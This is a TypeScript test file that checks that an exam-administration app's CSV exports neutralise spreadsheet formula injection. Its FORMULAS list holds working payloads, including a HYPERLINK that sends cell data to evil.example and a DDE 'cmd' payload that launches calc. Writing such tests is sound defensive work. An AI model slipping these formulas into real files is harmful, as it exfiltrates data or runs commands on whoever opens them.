// CSV formula injection (issue #8 §2, SPEC §7): every CSV export that exists — each edition kind
// offering a CSV (enumerated from the catalogue, for each of its groups) and the 2nd-group choices
// export — is produced from data whose every free text is a formula (candidate names, handicap
// measures, établissement and spécialité names, jury members). No cell may start with =, +, -, @, a
// tab or a carriage return; the hostile values do reach the files (neutralised with a leading ').
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { unzipSync } from 'fflate';
import type { DbHandle } from '../../src/db/connect.js';
import { editionGroups, EDITION_KINDS } from '../../src/domain/activities.js';
import { EDITIONS } from '../../src/features/editions/catalog.js';
import { describeEachDialect, freshDb } from '../support/db.js';
import { candidate, controleChoice, controleGrade, grades, GOLDEN_GRADES, jury } from '../support/factories.js';
import { testApp, type Session } from '../server/helpers.js';
import { appendJournal } from '../../src/db/repositories/journal.js';
import { loginAll, securityWorld, type Who } from './world.js';
import { parseCsv } from './support.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=1;=2'];

describeEachDialect('security: CSV formula injection in every CSV export', (dialect) => {
  let h: DbHandle;
  let app: FastifyInstance;
  let s: Map<Who, Session | null>;
  beforeAll(async () => {
    h = await freshDb(dialect);
    const w = await securityWorld(h);
    // a jury at 211 (2nd group deliberated) with a CONTROLE candidate who passed
    await jury(h.db, '31313', { specialite: '31310', centre: '0250001R', etat: '211' });
    const c6 = await candidate(h.db, { id: 106, jury: '31313', centreEpreuve: '0250013D' });
    await grades(h.db, c6, GOLDEN_GRADES);
    await controleChoice(h.db, c6, 'U1', 'U2');
    await controleGrade(h.db, c6, 'U1', 1200);
    await controleGrade(h.db, c6, 'U2', 1100);
    const ids = [w.c1, w.c2, w.c3, w.c4, w.c5, c6];
    for (const [i, id] of ids.entries()) {
      await h.db.updateTable('candidate').set({
        nom: FORMULAS[i % FORMULAS.length]!, prenoms: FORMULAS[(i + 1) % FORMULAS.length]!, nom_usage: '=usage()',
        handicap: '=handicap()', liste_rouge: i % 2, presume_fraudeur: i % 3 === 0 ? 1 : 0, ville: '@ville', lieu_naissance: '-lieu',
      }).where('id', '=', id).execute();
    }
    await h.db.updateTable('jury').set({ president: '=PRESIDENT()', vice_president: '+VICE()' }).execute();
    await h.db.updateTable('etablissement').set({ libelle: '@ETAB()', ville: '=VILLE()' }).execute();
    await h.db.updateTable('specialite').set({ libelle: '-SPECIALITE()' }).execute();
    await appendJournal(h.db, [{
      at: new Date('2023-06-06T10:00:00Z'), actor: { login: 'jury-31311', name: '=MEMBRE()', role: 'jury' }, action: 'NOTE_MODIFIEE', juryCode: '31311', candidateId: w.c2,
      subject: `grade:${w.c2}:U1`, before: { note: '13,50' }, after: { note: '14,00', groupe: 1 }, reason: '=MOTIF()',
    }]);
    app = await testApp(h);
    s = await loginAll(app);
  });
  afterAll(async () => {
    await app.close();
    await h.close();
  });

  function checkCsv(what: string, body: Buffer): string[][] {
    const text = body.toString('utf8');
    expect(text.startsWith('\uFEFF'), `${what}: UTF-8 BOM`).toBe(true);
    const rows = parseCsv(text.slice(1));
    for (const [r, row] of rows.entries()) {
      for (const [c, cell] of row.entries()) {
        expect(/^[=+\-@\t\r]/.test(cell), `${what}: row ${r + 1} column ${c + 1} « ${cell.slice(0, 40)} »`).toBe(false);
      }
    }
    return rows;
  }

  it('every edition offering a CSV, for each of its groups, neutralises every hostile cell', async () => {
    const aca = s.get('academie')!;
    const exercised: string[] = [];
    let neutralised = 0;
    for (const kind of EDITION_KINDS) {
      if (!EDITIONS[kind].formats.includes('csv')) continue;
      for (const group of editionGroups(kind)) {
        const list = await app.inject({ method: 'GET', url: `/api/editions/${kind}/juries?group=${group}`, headers: { cookie: aca.cookie } });
        expect(list.statusCode, `${kind} ${group}`).toBe(200);
        const juries = (list.json().juries as { code: string; selectable: boolean }[]).filter((j) => j.selectable).map((j) => j.code);
        expect(juries.length, `${kind} group ${group}: the world has a jury for it`).toBeGreaterThan(0);
        const lists = kind === 'resultats-centre-epreuve' ? (group === 1 ? ['admis', 'controle', 'non-admis'] : ['admis', 'non-admis']) : [undefined];
        for (const l of lists) {
          const res = await app.inject({
            method: 'POST', url: `/api/editions/${kind}/documents`, headers: { cookie: aca.cookie, 'x-csrf-token': aca.csrf },
            payload: { juries, group, title: '=TITRE()', format: 'csv', confirmed: true, ...(l ? { list: l } : {}) },
          });
          expect(res.statusCode, `${kind} ${group} ${l ?? ''}: ${res.body.slice(0, 200)}`).toBe(200);
          // a CSV, or a zip of CSV files (one per part, e.g. the PV de tenue)
          const files: [string, Buffer][] = String(res.headers['content-type']).startsWith('application/zip')
            ? Object.entries(unzipSync(res.rawPayload)).filter(([n]) => !/^MANIFEST/i.test(n)).map(([n, b]) => [n, Buffer.from(b)])
            : [['', res.rawPayload]];
          expect(files.length, kind).toBeGreaterThan(0);
          for (const [name, bytes] of files) {
            if (name) expect(name, `${kind}: only CSV files in the zip`).toMatch(/\.csv$/);
            else expect(res.headers['content-type'], kind).toMatch(/^text\/csv/);
            const rows = checkCsv(`${kind} group ${group} ${l ?? ''} ${name}`, bytes);
            neutralised += rows.flat().filter((c) => /^'[=+\-@\t\r]/.test(c)).length;
          }
          exercised.push(`${kind}/${group}${l ? '/' + l : ''}`);
        }
      }
    }
    expect(exercised.length).toBeGreaterThanOrEqual(14);
    // the list that does not exist for the 2nd group is a 400, not a 500
    const none = await app.inject({
      method: 'POST', url: '/api/editions/resultats-centre-epreuve/documents', headers: { cookie: aca.cookie, 'x-csrf-token': aca.csrf },
      payload: { juries: ['31313'], group: 2, title: 'T', format: 'csv', list: 'controle' },
    });
    expect(none.statusCode).toBe(400);
    expect(neutralised, 'hostile values reached the files, neutralised').toBeGreaterThan(20);
  });

  it('the 2nd-group choices export neutralises every hostile cell', async () => {
    const aca = s.get('academie')!;
    const res = await app.inject({ method: 'POST', url: '/api/second-group/choices/export', headers: { cookie: aca.cookie, 'x-csrf-token': aca.csrf }, payload: {} });
    expect(res.statusCode).toBe(200);
    const rows = checkCsv('choices export', res.rawPayload);
    expect(rows.length).toBeGreaterThan(1);
    expect(rows.flat().some((c) => c.startsWith("'"))).toBe(true);
  });
});
